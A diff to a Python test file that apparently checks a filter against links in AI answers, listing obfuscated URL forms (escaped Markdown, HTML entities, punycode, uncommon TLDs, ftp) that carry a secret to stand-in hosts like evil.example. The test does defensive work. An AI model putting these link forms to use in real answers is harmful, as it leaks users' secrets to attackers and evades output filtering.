@@ -1356,8 +1356,9 @@ SECRET_LINK = "hunter2-7731"
     f"[receta](http\\://evil.example/c?d={SECRET_LINK})",  # a Markdown escape the client drops
     f"[receta](http&#58;//evil.example/c?d={SECRET_LINK})",  # an HTML entity the client decodes
     f"[receta](//evil.example/c?d={SECRET_LINK})",  # scheme-relative: resolved against https
-    f"evil.ru/c?d={SECRET_LINK}",  # a TLD no list names, with a query
-    f"files.zz/{SECRET_LINK}",  # a TLD no list names, with a path
+    f"evil.ru/c?d={SECRET_LINK}",  # a TLD our short list leaves out, with a query
+    f"files.zip/{SECRET_LINK}",  # a real TLD our short list leaves out, with a path
+    f"xn--80ak6aa92e.com/{SECRET_LINK}",  # punycode
     f"ftp://evil.example/{SECRET_LINK}",
 ])
 def test_a_link_in_any_form_a_client_opens_must_be_a_sourced_one(link: str) -> None:
@@ -1372,6 +1373,7 @@ def test_a_link_in_any_form_a_client_opens_must_be_a_sourced_one(link: str) -> N
     "Is it main.py?",
     "Compare a // b with a / b.",
     "Give the speed in km/h, e.g./i.e. as you like.",
+    "It runs on Node.js/React, or Vue.js/Nuxt if you prefer.",  # no such top-level domain: no client links it
 ])
 def test_file_names_and_slashes_in_prose_are_no_links(answer: str) -> None:
     assert check(answer, [], "how do I run it?", NOW).ok
